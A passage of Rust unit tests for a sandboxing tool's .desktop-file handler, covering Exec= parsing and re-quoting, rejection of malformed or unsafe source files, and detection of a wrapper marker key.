            ("sh -c 'echo a; echo b' %u", "sh -c \"echo a; echo b\" %u"),
            ("fox \"a\\\\\\\\$b\"", "fox \"a\\\\\\\\\\\\$b\""),
            ("fox 100%%", "fox \"100%%\""),
            ("sh -c \"fox %f\"", "sh -c \"fox \"%f"),
            ("fox\\sbar", "fox bar"),
            ("fox #comment", "fox"),
            ("fox \"\"", "fox \"\""),
        ];
        for (src, want) in cases {
            let got = unparse_exec(&parse_exec(src).unwrap());
            assert_eq!(&got, want, "{src}");
            // Stable: parsing the output gives the same arguments.
            assert_eq!(parse_exec(&got).unwrap(), parse_exec(src).unwrap(), "{src}");
        }
        for bad in [
            "", "   ", "\"fox", "fox 'a", "fox %z", "fox %", "fox\\", "fox\\x", "\"\" fox",
        ] {
            assert!(parse_exec(bad).is_err(), "{bad:?} accepted");
        }
    }

    #[test]
    fn malformed_files_are_refused_with_their_line() {
        for (src, what) in [
            ("Exec=x\n[Desktop Entry]\nExec=x\n", ":1: a key before"),
            ("[Desktop Entry]\nExec=x\ngarbage\n", ":3: a line that"),
            (
                "[Desktop Entry]\nExec=x\n[Desktop Entry]\nExec=y\n",
                ":3: a second",
            ),
            ("[Desktop Entry]x\nExec=x\n", ":1: not a valid group"),
            (
                "[Desktop Entry]\nExec=\"x\n",
                ":2: Exec= in [Desktop Entry]",
            ),
            ("[Desktop Entry]\nExec=\n", ":2: Exec="),
            ("[Desktop Entry]\nEx ec=x\n", ":2: a malformed key"),
            ("[Desktop Entry]\nName=x\n", "has no Exec="),
        ] {
            let e = w(src).unwrap_err();
            assert!(e.contains(what), "{src:?}: {e}");
        }
        // Blank lines, comments and indented keys are fine.
        let out = w("# c\n\n[Desktop Entry]\n  Exec = fox\n").unwrap();
        assert_eq!(execs(&out), ["/usr/bin/jail run --profile fox -- fox"]);
    }

    #[test]
    fn sources_that_are_not_small_text_files_are_refused() {
        let d = std::env::temp_dir().join(format!("jail-unit-desktop-{}", std::process::id()));
        std::fs::create_dir_all(&d).unwrap();
        let big = d.join("big.desktop");
        std::fs::write(&big, vec![b'#'; (MAX_DESKTOP_FILE + 1) as usize]).unwrap();
        let bin = d.join("bin.desktop");
        std::fs::write(&bin, b"[Desktop Entry]\nExec=\xff\xfe\n").unwrap();
        let nul = d.join("nul.desktop");
        std::fs::write(&nul, b"[Desktop Entry]\nExec=a\0b\n").unwrap();
        let link = d.join("zero.desktop");
        std::os::unix::fs::symlink("/dev/zero", &link).unwrap();
        let ok = d.join("ok.desktop");
        std::fs::write(&ok, "[Desktop Entry]\nExec=a\n").unwrap();
        let to_ok = d.join("to-ok.desktop");
        std::os::unix::fs::symlink(&ok, &to_ok).unwrap();
        let r = (
            read_source(&big),
            read_source(&bin),
            read_source(&nul),
            read_source(&link),
            read_source(&to_ok),
        );
        std::fs::remove_dir_all(&d).unwrap();
        assert!(r.0.unwrap_err().contains("larger than"));
        assert!(r.1.unwrap_err().contains("not UTF-8"));
        assert!(r.2.unwrap_err().contains("NUL"));
        assert!(r.3.unwrap_err().contains("not a regular file"));
        assert_eq!(r.4.unwrap(), "[Desktop Entry]\nExec=a\n");
    }

    #[test]
    fn marker_is_a_whole_key_in_the_entry_group() {
        assert!(is_wrapper_text("[Desktop Entry]\nX-Jail-Wrapper = true\n"));
        assert!(!is_wrapper_text("[Desktop Entry]\nX-Jail-Wrapperx=true\n"));
        assert!(!is_wrapper_text("[Desktop Entry]\nX-Jail-Wrapper=truex\n"));
        assert!(!is_wrapper_text("[Other]\nX-Jail-Wrapper=true\n"));
        assert!(!is_wrapper_text("[Desktop Entry]\n#X-Jail-Wrapper=true\n"));
    }
}
